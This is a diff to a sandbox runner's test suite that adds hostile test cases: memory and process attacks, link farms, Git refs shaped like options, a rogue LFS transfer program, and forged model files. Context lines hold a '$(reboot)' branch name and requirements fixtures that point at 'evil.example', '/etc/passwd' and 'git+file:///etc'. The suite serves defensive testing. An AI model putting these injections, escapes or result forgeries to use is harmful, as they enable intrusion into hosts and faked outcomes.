@@ -21,9 +21,12 @@ from tests.hostile.making import (
     deep,
     git_bomb,
     hooks_and_filters,
+    lfs,
+    link_farm,
     links_out,
     names,
     notebook,
+    refs_as_options,
     special_files,
     submodules,
     zipped,
@@ -90,6 +93,12 @@ LIMITS = [
     Hostile("fork-bomb", "starts processes without end", ExitCode.OUT_OF_TIME, "max_minutes", minutes=0.15),
     Hostile("memory-bomb", "takes memory without end", ExitCode.OUT_OF_MEMORY, "limit of 400 MiB"),
     Hostile("memory-bomb-child", "takes it in a child process", ExitCode.OUT_OF_MEMORY, "limit of 400 MiB"),
+    Hostile(
+        "last-to-be-killed",
+        "makes itself the last that the memory killer takes, then takes memory",
+        ExitCode.OUT_OF_MEMORY,
+        "the peak was",
+    ),
     Hostile("tmp-filler", "fills /tmp and /dev/shm"),
     Hostile("disk-filler", "writes files until the disk is full", ExitCode.OVER_QUOTA, "more than 64 MiB"),
     Hostile("one-large-file", "writes one file above the quota", ExitCode.OVER_QUOTA, "64 MiB"),
@@ -108,6 +117,8 @@ LIMITS = [
     Hostile(
         "ignores-sigterm", "never ends, ignores SIGTERM", ExitCode.OUT_OF_TIME, "max_minutes", minutes=0.15
     ),
+    Hostile("kills-itself", "forges the machine's death", ExitCode.SCRIPT_FAILED, "died 3 times"),
+    Hostile("forges-a-shutdown", "sends its init SIGTERM", ExitCode.SCRIPT_FAILED, "died 3 times"),
     Hostile("outlives-its-end", "leaves a process behind that goes on"),
 ]
 
@@ -120,7 +131,11 @@ ESCAPES = [
     Hostile("system-calls", "mounts, makes devices and name spaces, loads kernel programs"),
     Hostile("secrets", "looks for the host's secrets in variables, processes and files"),
     Hostile("kills-others", "kills every process it can name"),
+    Hostile("traces-others", "stops and traces every process it sees"),
     Hostile("links", "holds links to the host's files, for its settings too", prepare=links_out),
+    Hostile(
+        "link-farm", "twenty folders that link to one another, and links that go round", prepare=link_farm
+    ),
     Hostile("hard-links", "hard-links files into its trial"),
     Hostile("special-files", "is a folder with pipes and devices in it", prepare=special_files),
     Hostile("deep-repository", "nests 1,500 folders", ExitCode.NOT_FOUND, "100 folders", prepare=deep),
@@ -161,6 +176,8 @@ GIT = [
         prepare=lambda folder: commit(folder, SHELL, "$(reboot)"),
         options=("--branch", SHELL),
     ),
+    Hostile("refs-as-options", "branches and tags called like git's options", prepare=refs_as_options),
+    Hostile("lfs", "Git LFS with a server and a transfer program of its own", prepare=lfs),
     Hostile("names", "file names and messages with escapes, turns of direction, options", prepare=names),
 ]
 
@@ -185,6 +202,13 @@ SETTINGS = [
         ExitCode.BAD_CONFIG,
         "line 1",
         {"requirements.txt": "--extra-index-url https://evil.example\n-r /etc/passwd\n"},
+    ),
+    Hostile(
+        "requirements-clone",
+        "requires a clone by Git that is installed from where it lies",
+        ExitCode.BAD_CONFIG,
+        "line 2",
+        {"requirements.txt": "numpy\n-e git+file:///etc#egg=x\n"},
     ),
     Hostile(
         "host-limits",
@@ -247,6 +271,11 @@ FORGERIES = [
     Hostile("pipes-for-results", "puts pipes in place of its results", ExitCode.NO_METRIC),
     Hostile("folders-for-results", "puts folders in place of its results and of the log", ExitCode.NO_METRIC),
     Hostile("huge-results", "writes a million nested lists and 40 MB of columns", ExitCode.NO_METRIC),
+    Hostile("model-elsewhere", "puts a link to the host's files in place of its model"),
+    Hostile("model-no-name", "names a model with a NUL in its name"),
+    Hostile("model-in-a-circle", "makes its model a link to itself, and its name 5,000 letters long"),
+    Hostile("model-escapes", "names its model with escapes, line breaks and turns of direction"),
+    Hostile("another-time", "sets the times of all it wrote to the year 2242"),
     Hostile("torn-checkpoint", "leaves checkpoints that are programs"),
     Hostile("model-with-code", "saves a model that is a program"),
     Hostile(
@@ -254,6 +283,9 @@ FORGERIES = [
         "prints escapes, control characters and turns of direction",
         ExitCode.SCRIPT_FAILED,
         "ValueError",
+    ),
+    Hostile(
+        "exception-name", "raises an exception called with escapes", ExitCode.SCRIPT_FAILED, "PROMOTED: x"
     ),
     Hostile("report-script", "puts HTML into messages and names", ExitCode.SCRIPT_FAILED, "<script>"),
     Hostile(
